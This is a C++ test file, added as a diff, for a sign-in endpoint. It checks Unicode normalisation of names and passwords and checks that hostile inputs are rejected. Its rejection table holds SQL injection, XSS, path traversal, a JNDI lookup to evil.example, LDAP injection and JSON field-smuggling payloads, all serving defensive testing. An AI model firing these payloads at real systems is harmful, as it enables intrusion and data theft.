@@ -1,0 +1,203 @@
+// Names and passwords as they are typed at the sign-in: hostile ones, and innocent ones that look odd, and what
+// each becomes. 200: in; 403: not in, and not told why; 400: no request that a page of ours makes.
+
+#include "people/password.hpp"
+#include "people/words.hpp"
+#include "support/catch.hpp"
+#include "transport/test_house.hpp"
+
+using namespace etakahvila;
+using namespace etakahvila::testing;
+using namespace std::string_literals;
+
+namespace {
+
+struct Row {
+    int status;
+    std::string_view name;
+    /// As it stands in JSON, between the quotation marks.
+    std::string typed;
+};
+
+const std::string usual{TestHouse::password};
+
+/// Each for one of the accounts below.
+const std::vector<Row>& innocent_names() {
+    static const std::vector<Row> rows{
+        {200, "as it is", "Äijälä Aino"},
+        {200, "small", "äijälä aino"},
+        {200, "large", "ÄIJÄLÄ AINO"},
+        {200, "spaces around", "  Äijälä Aino "},
+        {200, "two spaces", "Äijälä  Aino"},
+        {200, "a tab", "Äijälä\\tAino"},
+        {200, "a line break of pasting", "Äijälä Aino\\r\\n"},
+        {200, "a space that does not break", "Äijälä\u00a0Aino"},
+        {200, "a thin space", "Äijälä\u2009Aino"},
+        {200, "dots apart, as a Mac writes them", "A\u0308ija\u0308la\u0308 Aino"},
+        {200, "a soft hyphen", "Äijä\u00adlä Aino"},
+        {200, "a zero-width space of copying", "Äijälä\u200b Aino"},
+        {200, "a byte order mark", "\ufeffÄijälä Aino"},
+        {200, "marks of direction of a contact card", "\u202aÄijälä Aino\u202c"},
+        {200, "wide letters of another keyboard", "Äijälä \uff21ino"},
+        {200, "as JSON may write it", "\\u00c4ij\\u00e4l\\u00e4 Aino"},
+        {200, "an apostrophe", "Sean O'Connor"},
+        {200, "hyphens", "Anna-Maija Mäki-Ventelä"},
+        {200, "Sámi", "Áile Čáhppesš"},
+        {200, "Persian", "سارا احمدی"},
+        {200, "Sinhala with its joiner", "ශ්\u200dරී"},
+        {200, "Hindi", "प्रिया शर्मा"},
+        {200, "Vietnamese", "Nguyễn Thị Hồng"},
+        {200, "Vietnamese, with its marks apart", "Nguye\u0302\u0303n Thi\u0323 Ho\u0302\u0300ng"},
+        {200, "Greek with a final sigma", "ΝΙΚΟΣ"},
+        {200, "Turkish", "İpek Işık"},
+        {200, "German", "STRAUSS"},
+        {200, "one letter", "Ö"},
+        {200, "eighty letters", std::string(80, 'a')},
+        {200, "a figure", "Ohjaaja 2"},
+    };
+    return rows;
+}
+
+std::vector<Row> hostile_names() {
+    return {
+        {403, "nothing", ""},
+        {403, "a space", " "},
+        {403, "nobody", "Kukaan Ei Ole"},
+        {403, "a part", "Äijälä"},
+        {403, "more", "Äijälä Aino Maija"},
+        {403, "a Cyrillic a", "Äijälä \u0410ino"},
+        {403, "Greek letters", "Äijälä \u0391ino"},
+        {403, "no dots", "Aijala Aino"},
+        {403, "SQL", "' OR '1'='1"},
+        {403, "more of it", "Äijälä Aino'; DROP TABLE people; --"},
+        {403, "LIKE", "%"},
+        {403, "a star", "*"},
+        {403, "a script", "<script>alert(1)</script>"},
+        {403, "a path", "../../etc/passwd"},
+        {403, "a format", "%s%s%n"},
+        {403, "an expression", "${jndi:ldap://evil.example}"},
+        {403, "LDAP", "*)(uid=*))(|(uid=*"},
+        {403, "a zero byte", "Äijälä Aino\\u0000"},
+        {403, "a zero byte and more", "Äijälä Aino\\u0000x"},
+        {403, "a control", "Äijälä\\u0007 Aino"},
+        {403, "an escape", "\\u001b[2JÄijälä Aino"},
+        {403, "a line of a log", "x\\nlevel=error event=signed_in account=1"},
+        {403, "marks stacked", "A" + "\u0301\u0302\u0303\u0304\u0305\u0306"s + "ino"},
+        {403, "an account's number", "1"},
+        {403, "a private character", "Äijälä Aino\ue000"},
+        {403, "a replacement", "Äijälä \ufffdAino"},
+        {403, "an emoji", "Äijälä Aino ✓"},
+        {403, "two hundred letters", std::string(200, 'a')},
+        {400, "two hundred and one", std::string(201, 'a')},
+        {400, "sixty thousand", std::string(60'000, 'a')},
+        {400, "half an emoji", "Äijälä Aino\\ud83d"},
+        {400, "halves the wrong way", "\\ude00\\ud83d"},
+        {400, "no UTF-8", "Aino\xff"},
+        {400, "an overlong slash", "Aino\xc0\xaf"},
+        {400, "a raw control", "Ai\x01no"},
+        {400, "another field", "Aino\",\"role\":\"coordinator"},
+        {400, "the name twice", "Aino\",\"name\":\"Kaisa"},
+        {400, "an end of it", "Aino\"}"},
+        {400, "a bad escape", "Aino\\x41"},
+    };
+}
+
+struct Password {
+    std::string_view what;
+    std::string set;
+    std::string typed;
+    bool is_it;
+};
+
+std::vector<Password> passwords() {
+    const std::string marks = "salasana, jossa on kaikki: \"\\/<>&';%00 {}";
+    return {
+        {"as it is", "kahvi ja pulla", "kahvi ja pulla", true},
+        {"a space that does not break, as a Mac's keyboard makes it", "kahvi ja pulla", "kahvi\u00a0ja pulla", true},
+        {"an ideographic space", "kahvi ja pulla", "kahvi\u3000ja\u2003pulla", true},
+        {"dots apart", "äiti söi pöydässä", "a\u0308iti so\u0308i po\u0308yda\u0308ssa\u0308", true},
+        {"dots together", "a\u0308iti so\u0308i po\u0308yda\u0308ssa\u0308", "äiti söi pöydässä", true},
+        {"an Ångström sign", "\u212bland on kaunis", "Åland on kaunis", true},
+        {"spaces around are its own", " kahvi ja pulla ", " kahvi ja pulla ", true},
+        {"marks", marks, marks, true},
+        {"emoji", "☕☕☕☕☕☕🥐🥐🥐🥐🥐🥐", "☕☕☕☕☕☕🥐🥐🥐🥐🥐🥐", true},
+        {"a family of emoji", "👨‍👩‍👧‍👦 ja kahvi ja pulla", "👨‍👩‍👧‍👦 ja kahvi ja pulla", true},
+        {"Persian with its half-space", "می\u200cخواهم چای بنوشم", "می\u200cخواهم چای بنوشم", true},
+        {"Sinhala", "ශ්\u200dරී ලංකාව රට", "ශ්\u200dරී ලංකාව රට", true},
+        {"Hindi", "मुझे चाय पसंद है", "मुझे चाय पसंद है", true},
+        {"Arabic", "أريد قهوة من فضلك", "أريد قهوة من فضلك", true},
+        {"Vietnamese, either way", "tôi muốn uống cà phê", "to\u0302i muo\u0302\u0301n uo\u0302\u0301ng ca\u0300 phe\u0302", true},
+        {"Sámi", "mun háliidan gáfe", "mun háliidan gáfe", true},
+        {"Chinese", "我想在赫尔辛基喝咖啡好吗", "我想在赫尔辛基喝咖啡好吗", true},
+        {"as long as may be", std::string(512, 'a'), std::string(512, 'a'), true},
+        {"other case", "kahvi ja pulla", "Kahvi ja pulla", false},
+        {"a space more", "kahvi ja pulla", "kahvi ja pulla ", false},
+        {"two spaces", "kahvi ja pulla", "kahvi  ja pulla", false},
+        {"cut", "kahvi ja pulla", "kahvi ja pull", false},
+        {"more", "kahvi ja pulla", "kahvi ja pullaa", false},
+        {"nothing", "kahvi ja pulla", "", false},
+        {"no dots", "äiti söi pöydässä", "aiti soi poydassa", false},
+        {"a Cyrillic a", "kahvi ja pulla", "k\u0430hvi ja pulla", false},
+        {"wide letters", "kahvi ja pulla", "ｋａｈｖｉ ja pulla", false},
+        {"a soft hyphen", "kahvi ja pulla", "kah\u00advi ja pulla", false},
+        {"without the half-space", "می\u200cخواهم چای بنوشم", "میخواهم چای بنوشم", false},
+        {"a zero byte", "kahvi ja pulla", "kahvi ja pulla"s + '\0', false},
+        {"behind a zero byte", "kahvi ja pulla", "kahvi ja pulla"s + '\0' + "x", false},
+        {"no UTF-8", "kahvi ja pulla", "kahvi ja pulla\xff", false},
+        {"the hash itself", "kahvi ja pulla", "$argon2id$v=19$m=65536,t=2,p=1$", false},
+        {"SQL", "kahvi ja pulla", "' OR '1'='1", false},
+        {"a star", "kahvi ja pulla", "*", false},
+    };
+}
+
+int status_of(const TestHouse& house, RawClient& line, const std::string& name, const std::string& password, int from) {
+    // Each from a network of its own: how fast they come is another test's.
+    return ask(line, "POST", "/api/sign-in", "{\"name\":\"" + name + "\",\"password\":\"" + password + "\"}",
+               {"Origin: " + house.origin(), "X-Forwarded-For: 10.9." + std::to_string(from / 250) + "." + std::to_string(from % 250)})
+        .status;
+}
+
+}  // namespace
+
+TEST_CASE("Names at the sign-in, hostile and innocent but odd, each with what it becomes") {
+    TestHouse house{{.trusted_proxies = {"127.0.0.1"}}};
+    for (const auto* name : {"Äijälä Aino", "Sean O'Connor", "Anna-Maija Mäki-Ventelä", "Áile Čáhppesš", "سارا احمدی", "ශ්\u200dරී", "प्रिया शर्मा", "Nguyễn Thị Hồng", "Νίκος", "İpek Işık", "Strauß", "Ö", "Ohjaaja 2"}) {
+        house.add_account(name, {});
+    }
+    house.add_account("Νικος", {});
+    house.add_account(std::string(80, 'a'), {});
+    RawClient line{house};
+    int from = 0;
+    for (const auto& [status, what, typed] : innocent_names()) {
+        INFO(what);
+        CHECK(status_of(house, line, typed, usual, ++from) == status);
+    }
+    for (const auto& [status, what, typed] : hostile_names()) {
+        INFO(what);
+        CHECK(status_of(house, line, typed, usual, ++from) == status);
+    }
+    CHECK(innocent_names().size() + hostile_names().size() >= 65);
+    const auto log = house.log();
+    std::istringstream lines{log};
+    for (std::string each; std::getline(lines, each);) CHECK(each.starts_with("time="));
+    for (const auto* part : {"Aino", "DROP", "alert", "jndi", "passwd"}) CHECK(log.find(part) == log.npos);
+}
+
+TEST_CASE("Passwords, hostile and innocent but odd: what is the same, and what is not") {
+    for (const auto& [what, set, typed, is_it] : passwords()) {
+        INFO(what);
+        CHECK(people::is_good_password(set));
+        // The form is what is compared; the slow hash is tried with the first and the last of them below.
+        CHECK((people::password_form(set) == people::password_form(typed)) == is_it);
+    }
+    const auto hash = people::password_hash("kahvi\u00a0ja pulla");
+    CHECK(people::is_password("kahvi ja pulla", hash));
+    CHECK_FALSE(people::is_password("kahvi  ja pulla", hash));
+}
+
+TEST_CASE("A password of before its form was made works as it was typed") {
+    // Of "äiti söi pöydässä" with its dots apart, as those bytes were hashed.
+    const std::string hash{"$argon2id$v=19$m=65536,t=2,p=1$tTSKfD9G0YWKoXTK39WOOw$F6LPcTktcpwUPBgJz4LRsSZge5P44asoQapOC/3xDmY"};
+    CHECK(people::is_password("a\u0308iti so\u0308i po\u0308yda\u0308ssa\u0308", hash));
+    CHECK_FALSE(people::is_password("äiti söi pöydässä", hash));
+}
